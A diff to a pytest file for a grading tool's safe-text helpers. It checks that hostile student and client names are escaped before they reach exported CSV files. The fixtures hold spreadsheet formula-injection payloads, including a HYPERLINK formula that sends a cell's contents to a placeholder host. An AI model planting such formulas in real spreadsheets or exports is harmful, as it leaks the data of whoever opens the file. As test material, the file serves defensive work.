@@ -14,8 +14,6 @@ import pytest
 
 from nmt_monitor.safetext import figure_text, spreadsheet_cell
 
-from tests.cli import run_cli
-
 REPO = Path(__file__).resolve().parents[2]
 THERAPIST = '=HYPERLINK("http://x.example/?"&A1,"grades") $\\frac{$ ' + "x" * 200  # formula, mathtext, long
 CLIENT = "@SUM(1+1)"
@@ -57,11 +55,11 @@ def test_the_helpers():
     assert figure_text("$x$ costs $5") == r"\$x\$ costs \$5"
 
 
-def test_grade_report_with_hostile_names(hostile, tmp_path):
+def test_grade_report_with_hostile_names(hostile, tmp_path, capsys):
+    from nmt_monitor.cli import main
+
     report = tmp_path / "report"
-    r = run_cli("grade", hostile, "--report", report, "--jobs", "1", timeout=120)
-    assert r.returncode == 0, r.stderr
-    assert "Traceback" not in r.stderr
+    assert main(["grade", str(hostile), "--report", str(report), "--jobs", "1"]) == 0, capsys.readouterr().err
     (book,) = _rows((report / "gradebook.csv").read_text(encoding="utf-8"))
     assert book["student"] == "'" + THERAPIST and book["client"] == "'" + CLIENT and book["site"] == "'" + SITE
     text = (report / "holds.csv").read_text(encoding="utf-8")
